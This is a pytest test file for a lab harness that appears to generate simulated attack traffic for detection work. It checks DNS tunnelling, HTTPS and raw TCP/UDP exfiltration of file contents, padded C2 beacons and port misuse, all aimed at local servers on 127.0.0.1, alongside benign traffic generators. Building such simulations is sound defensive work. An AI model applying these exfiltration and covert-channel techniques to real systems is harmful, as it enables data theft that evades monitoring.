"""The lab's actor programs against small servers on 127.0.0.1: what each one sends is what it
claims (tunnel data decodes back with the project's decoders, uploads arrive in full with the run
id, beacons are padded, misuse clients speak the protocol they say on the port they say)."""

from __future__ import annotations

import contextlib
import http.server
import json
import math
import random
import re
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import trustme

from harness.ingest._appid import identify
from harness.lab.backend import HostRole, LabHost, LabPlan, Service, ServiceEndpoint
from harness.lab.launch import child_env
from harness.lab.sinks import answer_dns
from harness.pcap.dnswire import parse_message, qtype_name
from scenarios.encodings import decode_name
from scenarios.programs import (
    PROGRAMS,
    backup_pusher,
    beacon,
    dns_tunnel,
    fetcher,
    https_upload,
    misuse,
    quiet_reader,
    raw_exfil,
)
from scenarios.programs._common import make_payload, run_id_prefix
from scenarios.programs.dns_tunnel import encoding_of, tunnel_domain

RUN_ID = "t7prog"
LO = "127.0.0.1"
ZONE = "lab.example"


# -- small servers ---------------------------------------------------------------------------


@dataclass
class DnsServer:
    """UDP DNS answering like the lab's sink (:func:`harness.lab.sinks.answer_dns`)."""

    sock: socket.socket
    queries: list[tuple[str, str, str]] = field(default_factory=list)
    source_ports: set[int] = field(default_factory=set)
    stop: threading.Event = field(default_factory=threading.Event)

    @property
    def port(self) -> int:
        return int(self.sock.getsockname()[1])

    def serve(self) -> None:
        # Every name of the zone resolves to 127.0.0.1, where the test's HTTPS server listens.
        plan = LabPlan(
            run_id=RUN_ID,
            clients=(),
            sink=LabHost(name="sink", role=HostRole.SINK, address=LO),
            endpoints=(ServiceEndpoint(service=Service.HTTPS, address=LO, ports=(443,)),),
            zone=ZONE,
            resolver=LO,
            internal_networks=(),
        )
        self.sock.settimeout(0.1)
        while not self.stop.is_set():
            try:
                data, peer = self.sock.recvfrom(65_535)
            except TimeoutError:
                continue
            message = parse_message(data)
            q = message.questions[0]
            self.queries.append((q.name, qtype_name(q.qtype), peer[0]))
            self.source_ports.add(peer[1])
            answer = answer_dns(data, plan)
            if answer.response is not None:
                self.sock.sendto(answer.response, peer)


@pytest.fixture
def dns_server() -> Iterator[DnsServer]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((LO, 0))
    server = DnsServer(sock=sock)
    thread = threading.Thread(target=server.serve, daemon=True)
    thread.start()
    yield server
    server.stop.set()
    thread.join(2)
    sock.close()


@dataclass
class Stream:
    """A TCP server recording every connection's bytes (answers ``ACK`` once the client
    half-closes), or a UDP server recording datagrams."""

    sock: socket.socket
    transport: str
    received: list[bytes] = field(default_factory=list)
    stop: threading.Event = field(default_factory=threading.Event)
    reply: bytes = b"ACK\n"

    @property
    def port(self) -> int:
        return int(self.sock.getsockname()[1])

    def settle(self, count: int, timeout_s: float = 5.0) -> list[bytes]:
        """What was received once ``count`` items have arrived (or the timeout passed)."""
        end = time.monotonic() + timeout_s
        while len(self.received) < count and time.monotonic() < end:
            time.sleep(0.01)
        return list(self.received)

    def serve(self) -> None:
        self.sock.settimeout(0.1)
        while not self.stop.is_set():
            try:
                if self.transport == "udp":
                    data, peer = self.sock.recvfrom(65_535)
                    self.received.append(data)
                    self.sock.sendto(b"ok", peer)
                    continue
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(5)
                chunks = []
                while True:
                    try:
                        data = conn.recv(1 << 16)
                    except OSError:
                        break
                    if not data:
                        break
                    chunks.append(data)
                self.received.append(b"".join(chunks))
                with contextlib.suppress(OSError):
                    conn.sendall(self.reply)


def _stream(transport: str) -> Iterator[Stream]:
    kind = socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM
    sock = socket.socket(socket.AF_INET, kind)
    sock.bind((LO, 0))
    if transport == "tcp":
        sock.listen(8)
    server = Stream(sock=sock, transport=transport)
    thread = threading.Thread(target=server.serve, daemon=True)
    thread.start()
    yield server
    server.stop.set()
    thread.join(6)
    sock.close()


@pytest.fixture
def tcp_server() -> Iterator[Stream]:
    yield from _stream("tcp")


@pytest.fixture
def udp_server() -> Iterator[Stream]:
    yield from _stream("udp")


@dataclass
class Request:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes
    response_bytes: int


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Any

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _record(self, body: bytes, out: bytes) -> None:
        self.server.requests.append(
            Request(self.command, self.path, dict(self.headers), body, len(out))
        )
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._record(body, b'{"ok": true}\n')

    do_PUT = do_POST

    def do_GET(self) -> None:
        match = re.search(r"size=(\d+)", self.path)
        self._record(b"", b"x" * int(match.group(1) if match else 10))


@dataclass
class HttpServer:
    server: Any
    ca_file: Path | None
    sni: list[str | None]

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    @property
    def requests(self) -> list[Request]:
        return list(self.server.requests)


def _http_server(tmp_path: Path, tls: bool) -> Iterator[HttpServer]:
    server = http.server.ThreadingHTTPServer((LO, 0), _Handler)
    server.daemon_threads = True
    server.requests = []
    sni: list[str | None] = []
    ca_file = None
    if tls:
        ca = trustme.CA()
        cert = ca.issue_cert(ZONE, f"*.{ZONE}", LO)
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        cert.configure_cert(context)

        def on_sni(sock: ssl.SSLObject, name: str | None, ctx: ssl.SSLContext) -> None:
            sni.append(name)

        context.sni_callback = on_sni  # type: ignore[assignment]
        server.socket = context.wrap_socket(server.socket, server_side=True)
        ca_file = tmp_path / "ca.pem"
        ca.cert_pem.write_to_path(str(ca_file))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield HttpServer(server=server, ca_file=ca_file, sni=sni)
    server.shutdown()
    server.server_close()
    thread.join(5)


@pytest.fixture
def https_server(tmp_path: Path) -> Iterator[HttpServer]:
    yield from _http_server(tmp_path, tls=True)


@pytest.fixture
def http_server(tmp_path: Path) -> Iterator[HttpServer]:
    yield from _http_server(tmp_path, tls=False)


def _summary(capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    lines = [line for line in capsys.readouterr().out.splitlines() if line.startswith("{")]
    assert lines, "the program wrote no summary"
    summary: dict[str, Any] = json.loads(lines[-1])
    return summary


def _wire_to_text(name: str) -> str:
    """dnswire's presentation form (``\\DDD`` escapes) back to one character per octet."""
    return re.sub(r"\\(\d{3})", lambda m: chr(int(m.group(1))), name)


# -- dns_tunnel ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("style", "codec", "record"),
    [
        ("iodine", "base32", "NULL"),
        ("iodine", "base64", "TXT"),
        ("iodine", "base128", "CNAME"),
        ("dnscat2", "base32", "TXT"),
        ("dnscat2", "base32", "MX"),
        ("dns2tcp", "base32", "TXT"),
        ("det", "base32", "A"),
    ],
)
def test_dns_tunnel_data_decodes_back_at_the_server(
    style: str,
    codec: str,
    record: str,
    dns_server: DnsServer,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    secret = random.Random(7).randbytes(1_500)
    source = tmp_path / "secret.bin"
    source.write_bytes(secret)
    code = dns_tunnel.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--duration", "20", "--style", style,
            "--codec", codec, "--record", record, "--rate", "400", "--file", str(source),
            "--resolver", LO, "--port", str(dns_server.port), "--zone", ZONE,
            "--ping-interval", "0.01",
        ]
    )  # fmt: skip
    assert code == 0
    summary = _summary(capsys)
    domain = tunnel_domain(RUN_ID, ZONE)
    encoding = encoding_of(style, codec)
    names = [_wire_to_text(name) for name, _, _ in dns_server.queries]
    assert {qtype for _, qtype, _ in dns_server.queries} == {record}
    assert {peer for _, _, peer in dns_server.queries} == {LO}
    assert all(name.lower().endswith(f".{RUN_ID}.{ZONE}") for name in names)
    data = [n for n in names if not n.startswith("p")] if style == "iodine" else names
    chunks: dict[tuple[int, int], bytes] = {}
    for name in data:
        chunk = decode_name(name, encoding=encoding, domain=domain)
        chunks.setdefault((chunk.session, chunk.seq), chunk.data)
    assert b"".join(chunks.values()) == secret
    assert summary["names_sent"] == len(chunks)
    assert summary["answered"] == summary["queries"] == len(dns_server.queries)
    assert summary["downstream_bytes"] > 0
    if style == "iodine":
        assert summary["pings"] > 0
        assert len(data) < len(names)


def test_dns_tunnel_keeps_one_socket_and_paces_its_queries(
    dns_server: DnsServer, capsys: pytest.CaptureFixture[str]
) -> None:
    code = dns_tunnel.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--duration", "1.0", "--style", "dnscat2",
            "--rate", "20", "--bytes", "1M", "--resolver", LO, "--port", str(dns_server.port),
            "--zone", ZONE,
        ]
    )  # fmt: skip
    assert code == 0
    summary = _summary(capsys)
    assert 12 <= summary["names_sent"] <= 28  # 20 q/s for 1 s, jitter 30 %
    assert len(dns_server.source_ports) == 1  # one long-lived socket, as the tools do
    assert summary["data_bytes_sent"] < 1_000_000


def test_dns_tunnel_fails_in_one_line_when_nothing_answers(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as silent:
        silent.bind((LO, 0))
        code = dns_tunnel.main(
            [
                "--run-id", RUN_ID, "--bind", LO, "--duration", "5", "--style", "det",
                "--rate", "100", "--resolver", LO, "--port", str(silent.getsockname()[1]),
                "--zone", ZONE, "--timeout", "0.05", "--retries", "0",
            ]
        )  # fmt: skip
    err = capsys.readouterr().err
    assert code == 1
    assert err.count("\n") == 1
    assert "unreachable" in err


# -- https_upload ----------------------------------------------------------------------------


def test_https_upload_sends_every_byte_with_the_run_id_sni_and_lab_ca(
    https_server: HttpServer, capsys: pytest.CaptureFixture[str]
) -> None:
    code = https_upload.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--https", LO, "--port", str(https_server.port),
            "--ca", str(https_server.ca_file), "--server-name", f"files.{ZONE}",
            "--bytes", "2.5M", "--chunk", "1M", "--interval", "0.01",
        ]
    )  # fmt: skip
    assert code == 0
    requests = https_server.requests
    assert [len(r.body) for r in requests] == [1_000_000, 1_000_000, 500_000]
    assert all(r.method == "POST" and r.headers["X-Lab-Run"] == RUN_ID for r in requests)
    assert all(r.headers["Host"] == f"files.{ZONE}" for r in requests)
    assert requests[0].body.startswith(run_id_prefix(RUN_ID))
    assert https_server.sni == [f"files.{ZONE}"] * 3  # a fresh TLS connection per chunk
    summary = _summary(capsys)
    assert summary["bytes_sent"] == 2_500_000
    assert summary["requests"] == 3


def test_https_upload_keep_alive_uploads_a_file_over_one_connection(
    https_server: HttpServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "report.xlsx"
    source.write_bytes(b"q" * 300_000)
    code = https_upload.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--https", LO, "--port", str(https_server.port),
            "--ca", str(https_server.ca_file), "--server-name", f"sync.{ZONE}", "--file",
            str(source), "--chunk", "100k", "--interval", "0.01", "--keep-alive",
            "--method", "PUT",
        ]
    )  # fmt: skip
    assert code == 0
    body = b"".join(r.body for r in https_server.requests)
    assert body == run_id_prefix(RUN_ID) + source.read_bytes()
    assert {r.method for r in https_server.requests} == {"PUT"}
    assert len(https_server.sni) == 1


def test_https_upload_refuses_a_server_the_lab_ca_did_not_sign(
    https_server: HttpServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other-ca.pem"
    trustme.CA().cert_pem.write_to_path(str(other))
    code = https_upload.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--https", LO, "--port", str(https_server.port),
            "--ca", str(other), "--server-name", f"files.{ZONE}", "--bytes", "10k",
        ]
    )  # fmt: skip
    err = capsys.readouterr().err
    assert code == 1
    assert err.count("\n") == 1
    assert "CERTIFICATE_VERIFY_FAILED" in err or "certificate" in err.lower()
    assert https_server.requests == []


# -- beacon ----------------------------------------------------------------------------------


@pytest.mark.parametrize("padding", ["constant", "random"])
def test_beacon_pads_its_check_ins_and_sends_far_more_than_it_gets(
    padding: str, http_server: HttpServer, capsys: pytest.CaptureFixture[str]
) -> None:
    code = beacon.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--host", LO, "--port", str(http_server.port),
            "--interval", "0.05", "--count", "8", "--padding", padding,
            "--padding-bytes", "5000", "--seed", "3",
        ]
    )  # fmt: skip
    assert code == 0
    requests = http_server.requests
    assert len(requests) == 8
    assert all(r.headers["X-Lab-Run"] == RUN_ID for r in requests)
    pads = [len(re.search(rb"&pad=([A-Za-z0-9]*)$", r.body).group(1)) for r in requests]  # type: ignore[union-attr]
    if padding == "constant":
        assert set(pads) == {5000}
    else:
        assert len(set(pads)) > 1
        assert all(0 <= p <= 10_000 for p in pads)
    summary = _summary(capsys)
    assert summary["bytes_sent"] > 10 * summary["bytes_received"]


# -- raw_exfil -------------------------------------------------------------------------------


def test_raw_exfil_tcp_sends_its_chunks_one_connection_each(
    tcp_server: Stream, capsys: pytest.CaptureFixture[str]
) -> None:
    code = raw_exfil.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--host", LO, "--port", str(tcp_server.port),
            "--bytes", "1M", "--chunk", "300k", "--rate", "0", "--interval", "0.01", "--seed", "5",
        ]
    )  # fmt: skip
    assert code == 0
    prefix = run_id_prefix(RUN_ID)
    assert len(tcp_server.received) == math.ceil(1_000_000 / 300_000)
    assert all(r.startswith(prefix) for r in tcp_server.received)
    data = b"".join(r[len(prefix) :] for r in tcp_server.received)
    assert data == make_payload(RUN_ID, 1_000_000, random.Random(5))
    summary = _summary(capsys)
    assert summary["bytes_sent"] == 1_000_000
    assert summary["bytes_received"] == 4 * len(b"ACK\n")


def test_raw_exfil_udp_counts_and_rate(
    udp_server: Stream, capsys: pytest.CaptureFixture[str]
) -> None:
    code = raw_exfil.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--transport", "udp", "--host", LO,
            "--port", str(udp_server.port), "--bytes", "120k", "--chunk", "60k",
            "--datagram", "1200", "--rate", "400k", "--interval", "0.01",
        ]
    )  # fmt: skip
    assert code == 0
    summary = _summary(capsys)
    grams = udp_server.settle(summary["datagrams"])
    assert len(grams) == summary["datagrams"]
    assert all(g.startswith(f"eh-run={RUN_ID} seq=".encode()) and len(g) <= 1200 for g in grams)
    assert sum(len(g.split(b"\n", 1)[1]) for g in grams) == summary["bytes_sent"] == 120_000
    assert summary["elapsed_s"] >= 0.25  # 120 kB at 400 kB/s


def test_raw_exfil_to_a_closed_port_is_exit_1_with_one_line(tmp_path: Path) -> None:
    with socket.socket() as s:
        s.bind((LO, 0))
        port = s.getsockname()[1]  # bound, never listening: connections are refused
        done = subprocess.run(
            [sys.executable, "-m", "scenarios.programs.raw_exfil", "--run-id", RUN_ID,
             "--bind", LO, "--host", LO, "--port", str(port), "--bytes", "10k"],
            capture_output=True, text=True, timeout=60, env=child_env(),
        )  # fmt: skip
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1
    assert done.stderr.startswith("raw_exfil: cannot connect to")


# -- misuse ----------------------------------------------------------------------------------


def test_misuse_http_on_443_sends_plain_http(
    tcp_server: Stream, capsys: pytest.CaptureFixture[str]
) -> None:
    code = misuse.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--mode", "http-on-443", "--host", LO,
            "--port", str(tcp_server.port), "--sessions", "3", "--interval", "0.01",
        ]
    )  # fmt: skip
    assert code == 0
    received = tcp_server.settle(3)  # the client does not wait for the server's answer
    assert len(received) == 3
    for payload in received:
        label, _ = identify(payload, tcp=True)
        assert label == "http"
        assert payload.startswith(f"POST /c2/{RUN_ID}/".encode())
        assert f"X-Lab-Run: {RUN_ID}".encode() in payload
    assert _summary(capsys)["sessions"] == 3
    assert misuse.DEFAULT_PORTS["http-on-443"] == 443


@pytest.mark.parametrize("mode", ["tls-on-53", "tls-odd-port"])
def test_misuse_tls_modes_send_a_client_hello_then_records(
    mode: str, tcp_server: Stream, capsys: pytest.CaptureFixture[str]
) -> None:
    code = misuse.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--mode", mode, "--host", LO,
            "--port", str(tcp_server.port), "--sessions", "2", "--interval", "0.01",
            "--zone", ZONE,
        ]
    )  # fmt: skip
    assert code == 0
    received = tcp_server.settle(2)  # the server may still be recording the last connection
    assert len(received) == 2
    for payload in received:
        label, server_name = identify(payload, tcp=True)
        assert label == "tls"
        assert server_name == f"{RUN_ID}.{ZONE}"
        assert b"\x17\x03\x03" in payload  # application-data records after the hello
    assert misuse.DEFAULT_PORTS["tls-on-53"] == 53


def test_misuse_dns_odd_port_sends_dns_queries_over_udp(
    udp_server: Stream, capsys: pytest.CaptureFixture[str]
) -> None:
    code = misuse.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--mode", "dns-odd-port", "--host", LO,
            "--port", str(udp_server.port), "--sessions", "2", "--interval", "0.01",
            "--zone", ZONE,
        ]
    )  # fmt: skip
    assert code == 0
    for datagram in udp_server.settle(4):
        assert identify(datagram, tcp=False)[0] == "dns"
        assert parse_message(datagram).questions[0].name.endswith(f".{RUN_ID}.{ZONE}")
    assert udp_server.port != 53


# -- quiet_reader ----------------------------------------------------------------------------


def test_quiet_reader_without_network_reads_and_audits(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    audit = tmp_path / "audit.jsonl"
    argv = [
        "--run-id", RUN_ID, "--workdir", str(tmp_path / "home"), "--audit", str(audit),
        "--files", "12", "--read-gap", "0",
    ]  # fmt: skip
    assert quiet_reader.main(argv) == 0
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    assert len(records) == 12
    assert all(set(r) == {"ts_ns", "path", "bytes", "pid"} for r in records)
    assert len({r["path"] for r in records}) == 12
    assert all(Path(r["path"]).stat().st_size == r["bytes"] for r in records)
    assert all(30_000 <= r["bytes"] <= 250_000 for r in records)
    assert [r["ts_ns"] for r in records] == sorted(r["ts_ns"] for r in records)
    summary = _summary(capsys)
    assert summary["channel"] == "none"
    assert "bytes_sent" not in summary
    # A second run (the attack phase) reads the same documents again.
    assert quiet_reader.main(argv) == 0
    assert len(audit.read_text().splitlines()) == 24


def test_quiet_reader_sends_what_it_read_over_tcp(
    tmp_path: Path, tcp_server: Stream, capsys: pytest.CaptureFixture[str]
) -> None:
    audit = tmp_path / "audit.jsonl"
    code = quiet_reader.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--workdir", str(tmp_path / "home"),
            "--audit", str(audit), "--files", "6", "--read-gap", "0", "--channel", "tcp",
            "--host", LO, "--port", str(tcp_server.port), "--chunk", "10M",
        ]
    )  # fmt: skip
    assert code == 0
    records = [json.loads(line) for line in audit.read_text().splitlines()]
    prefix = run_id_prefix(RUN_ID)
    (payload,) = tcp_server.received
    expected = b"".join(Path(r["path"]).read_bytes() for r in records)
    assert payload == prefix + prefix + expected


def test_quiet_reader_over_dns_is_a_dnscat2_tunnel(
    tmp_path: Path, dns_server: DnsServer, capsys: pytest.CaptureFixture[str]
) -> None:
    code = quiet_reader.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--workdir", str(tmp_path / "home"),
            "--audit", str(tmp_path / "a.jsonl"), "--files", "1", "--read-gap", "0",
            "--channel", "dns", "--resolver", LO, "--port", str(dns_server.port),
            "--zone", ZONE, "--rate", "500", "--bytes", "3000",
        ]
    )  # fmt: skip
    assert code == 0
    domain = tunnel_domain(RUN_ID, ZONE)
    data = b"".join(
        decode_name(n, encoding="dnscat2-hex", domain=domain).data for n, _, _ in dns_server.queries
    )
    assert data.startswith(run_id_prefix(RUN_ID))
    assert len(data) == 3000
    assert {q for _, q, _ in dns_server.queries} == {"TXT"}


def test_quiet_reader_over_tls_uploads(
    tmp_path: Path, https_server: HttpServer, capsys: pytest.CaptureFixture[str]
) -> None:
    code = quiet_reader.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--workdir", str(tmp_path / "home"),
            "--audit", str(tmp_path / "a.jsonl"), "--files", "4", "--read-gap", "0",
            "--channel", "tls", "--https", LO, "--port", str(https_server.port),
            "--ca", str(https_server.ca_file), "--server-name", f"cdn.{ZONE}",
            "--interval", "0.01",
        ]
    )  # fmt: skip
    assert code == 0
    summary = _summary(capsys)
    assert summary["bytes_sent"] == summary["bytes_read"]
    assert sum(len(r.body) for r in https_server.requests) == summary["bytes_read"]


# -- benign programs -------------------------------------------------------------------------


def test_fetcher_resolves_through_the_lab_resolver_and_downloads_more_than_it_sends(
    dns_server: DnsServer, https_server: HttpServer, capsys: pytest.CaptureFixture[str]
) -> None:
    # The test's resolver is not in /etc/resolv.conf, so the fetcher asks it directly (never
    # the host's resolver).
    code = fetcher.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--names", f"www.{ZONE},docs.{ZONE}",
            "--resolver", LO, "--resolver-port", str(dns_server.port),
            "--ca", str(https_server.ca_file), "--port", str(https_server.port),
            "--visits", "4", "--interval", "0.01", "--seed", "2",
        ]
    )  # fmt: skip
    assert code == 0
    summary = _summary(capsys)
    assert summary["resolution"] == "direct"
    assert summary["visits"] == 4
    assert {q for q, _, _ in dns_server.queries} <= {f"www.{ZONE}", f"docs.{ZONE}"}
    assert {t for _, t, _ in dns_server.queries} == {"A"}
    assert len(dns_server.queries) == 4
    assert {r.method for r in https_server.requests} == {"GET"}
    assert set(https_server.sni) <= {f"www.{ZONE}", f"docs.{ZONE}"}
    assert all(r.headers["X-Lab-Run"] == RUN_ID for r in https_server.requests)
    assert summary["bytes_received"] == sum(r.response_bytes for r in https_server.requests)
    assert summary["bytes_received"] > 30_000


def test_fetcher_uses_the_c_library_only_when_resolv_conf_names_the_lab_resolver(
    tmp_path: Path,
) -> None:
    conf = tmp_path / "resolv.conf"
    conf.write_text("# lab\nsearch lab.example\nnameserver 203.0.113.53\nnameserver  ::1\n")
    assert fetcher.resolv_conf_nameservers(conf) == ("203.0.113.53", "::1")
    assert fetcher.resolv_conf_nameservers(tmp_path / "missing") == ()


def test_backup_pusher_runs_jobs_on_schedule(
    tcp_server: Stream, capsys: pytest.CaptureFixture[str]
) -> None:
    code = backup_pusher.main(
        [
            "--run-id", RUN_ID, "--bind", LO, "--host", LO, "--port", str(tcp_server.port),
            "--bytes", "200k", "--rate", "0", "--every", "0.3", "--duration", "0.8",
        ]
    )  # fmt: skip
    assert code == 0
    summary = _summary(capsys)
    assert summary["jobs"] == 3
    assert [len(r) for r in tcp_server.received] == [200_000 + len(run_id_prefix(RUN_ID))] * 3


# -- every program ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", PROGRAMS)
def test_every_program_is_a_module_with_main_and_help(name: str) -> None:
    done = subprocess.run(
        [sys.executable, "-m", f"scenarios.programs.{name}", "--help"],
        capture_output=True, text=True, timeout=60, env=child_env(),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    for option in ("--bind", "--run-id", "--duration"):
        assert option in done.stdout
